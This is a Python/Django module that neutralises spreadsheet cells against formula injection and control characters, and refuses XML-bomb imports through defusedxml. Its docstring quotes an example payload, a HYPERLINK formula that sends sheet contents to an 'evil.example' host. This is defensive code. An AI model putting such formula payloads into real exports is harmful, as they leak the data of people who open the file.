"""One neutraliser for every cell written to a spreadsheet (CSV or XLSX) we hand out.

Two dangers, one function, in this order:

1. Control characters. XLSX cannot hold C0 control characters other than tab, newline and
   carriage return (openpyxl raises ``IllegalCharacterError``, and a whole export fails for
   one bad name); they are removed.
2. Formula injection. A cell whose text starts with ``= + - @`` (or a tab or carriage return
   before one, or their full-width forms) is run as a formula by Excel and LibreOffice:
   ``=HYPERLINK("http://evil.example/?"&A2,"Click")`` leaks the sheet. Such text gets a
   leading apostrophe, which spreadsheet programs show as text (OWASP "CSV Injection").

Cleaning comes first on purpose: ``"\\x01=HYPERLINK(...)"`` must not turn into a formula
once the control character is gone. Every export calls :func:`neutralise_cell` (or
:func:`neutralise_row`) last, on the value as it will be written.

Reading: openpyxl parses staff imports through defusedxml when it is installed (a
dependency, and a system check fails if ``OPENPYXL_DEFUSEDXML=False`` turned it off), so an
XML bomb (entities expanding to gigabytes) is refused before any expansion;
:class:`SpreadsheetImportMessagesMixin` tells staff why in words.
"""

import re
from collections.abc import Iterable
from typing import Any, TypeVar

import openpyxl.xml
from defusedxml.common import DefusedXmlException  # type: ignore[import-untyped]
from django.core import checks
from django.utils.safestring import mark_safe
from django.utils.translation import gettext_lazy as _
from import_export import resources

# openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE, plus DEL: what XML 1.0 refuses or shows as junk.
CONTROL_CHARACTERS_RE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
FORMULA_TRIGGERS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
LEADING_BLANKS = " \t\r\n\u00a0\u3000"

T = TypeVar("T")


def neutralise_cell(value: T) -> T | str:
    """The value safe to write as one spreadsheet cell; numbers, dates and None unchanged."""
    if not isinstance(value, str):
        return value
    cleaned = CONTROL_CHARACTERS_RE.sub("", value)
    starts_with = cleaned.lstrip(LEADING_BLANKS)[:1]
    if starts_with in FORMULA_TRIGGERS or cleaned[:1] in ("\t", "\r"):
        return "'" + cleaned
    return cleaned


def neutralise_row(values: Iterable[Any]) -> list[Any]:
    return [neutralise_cell(value) for value in values]


class StyleFreeDiff(resources.Diff):
    """The import preview's field diff without diff-match-patch's inline style="" (which the
    Content-Security-Policy blocks); the colours are in site/admin.css."""

    def as_html(self):
        return [
            mark_safe(  # noqa: S308 - diff_prettyHtml escaped the values; only tags change
                str(html)
                .replace('<ins style="background:#e6ffe6;">', '<ins class="import-diff">')
                .replace('<del style="background:#ffe6e6;">', '<del class="import-diff">')
            )
            for html in super().as_html()
        ]


class NeutralisedExportResource(resources.ModelResource):
    """A django-import-export resource whose every exported cell is neutralised (CSV, XLSX,
    and any other format the admin offers), after fields and dehydrate methods ran; its
    import preview is free of inline styles."""

    def export_field(self, field, instance, **kwargs):
        return neutralise_cell(super().export_field(field, instance, **kwargs))

    def get_diff_class(self):
        return StyleFreeDiff


def _caused_by(error: BaseException, kind: type[BaseException]) -> bool:
    seen: BaseException | None = error
    while seen is not None:
        if isinstance(seen, kind):
            return True
        seen = seen.__cause__ or seen.__context__
    return False


class SpreadsheetImportMessagesMixin:
    """For a django-import-export ModelAdmin (listed before ImportExportMixin): a file the
    safe XML parser refused is named for what it is, not by the exception openpyxl wraps it
    in ("'ValueError' encountered while trying to read file")."""

    def add_data_read_fail_error_to_form(self, form, e):
        if _caused_by(e, DefusedXmlException):
            form.add_error(
                "import_file",
                _(
                    "This spreadsheet declares XML entities, which a spreadsheet never needs: "
                    "it is refused for safety. Save it again from your spreadsheet program and "
                    "import that copy."
                ),
            )
            return
        super().add_data_read_fail_error_to_form(form, e)  # type: ignore[misc]


@checks.register(checks.Tags.security)
def check_spreadsheets_parsed_safely(app_configs, **kwargs) -> list[checks.CheckMessage]:
    """Staff imports are parsed by openpyxl: only ever through defusedxml."""
    if openpyxl.xml.DEFUSEDXML:
        return []
    return [
        checks.Error(
            "openpyxl would parse uploaded spreadsheets without defusedxml.",
            hint="Install defusedxml and do not set OPENPYXL_DEFUSEDXML=False.",
            id="iomcso.E001",
        )
    ]
